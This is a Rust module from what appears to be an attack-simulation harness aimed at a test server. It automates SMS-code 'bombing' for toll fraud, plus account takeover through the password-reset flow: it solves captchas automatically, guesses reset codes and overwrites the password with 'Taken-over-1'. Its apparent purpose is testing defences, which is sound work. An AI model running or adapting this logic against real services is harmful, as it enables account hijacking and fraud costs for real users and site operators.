//! What is done with codes: have them sent for the money that they cost, and guess one that sets a password.

use std::net::IpAddr;
use std::sync::Arc;

use http::StatusCode;

use super::browser::Browser;
use super::captcha::{Means, answer, is_refused};
use super::findings::Tally;
use super::people::{Member, ask_for_code};
use crate::scenario::candidate::marks;
use crate::server::accounts::Person;
use crate::server::target::Target;

/// How often a form is sent again whose captcha was not taken.
const ROUNDS_MAX: usize = 4;

/// Has a code sent to one more mobile.
pub(super) async fn bomb(
    target: &Target,
    exam: &str,
    from: IpAddr,
    person: Person,
    means: Means,
    tally: &Arc<Tally>,
) -> bool {
    let mut browser = Browser::new(target, from, tally);
    let path = format!("/sign-up?exam={exam}&next=/");
    let Some(page) = browser.get(&path).await else { return false };
    let Some(code_path) = marks::code_path(&page.page) else { return false };
    ask_for_code(&mut browser, (&path, &code_path), &person.mobile(), means, tally).await.is_ok()
}

/// Has a code sent to the account's own mobile, as the first step of taking its password.
pub(super) async fn forget(browser: &mut Browser, victim: &Member, tally: &Arc<Tally>) -> bool {
    let Some(mut seen) = browser.get("/forgotten?next=/").await else { return false };
    let mobile = victim.person.mobile();
    for _ in 0..ROUNDS_MAX {
        let solved = answer(browser, &seen.page, Means::Sums, tally).await;
        let Some(next) = browser.post("/forgotten?next=/", &solved.beside(&[("login", &mobile)])).await else {
            return false;
        };
        if !is_refused(&next.page) {
            return next.page.contains(r#"name="code""#);
        }
        seen = next;
    }
    false
}

/// Guesses a code; the page that came is where the next is guessed. How it ended, in words.
pub(super) async fn guess(
    browser: &mut Browser,
    victim: &Member,
    code: &str,
    page: &mut String,
    tally: &Arc<Tally>,
) -> &'static str {
    let (login, password) = (victim.person.mobile(), "Taken-over-1");
    let solved = answer(browser, page, Means::Reader, tally).await;
    let fields = [("login", &*login), ("code", code), ("password", password), ("again", password)];
    let Some(seen) = browser.post("/forgotten/code?next=/", &solved.beside(&fields)).await else { return "failed" };
    let is_captcha = is_refused(&seen.page);
    let end = match seen.status {
        status if status.is_redirection() => "password taken",
        StatusCode::TOO_MANY_REQUESTS => "must wait",
        StatusCode::UNPROCESSABLE_ENTITY if is_captcha => "captcha not taken",
        StatusCode::UNPROCESSABLE_ENTITY => "looked at",
        _ => "failed",
    };
    *page = seen.page;
    end
}
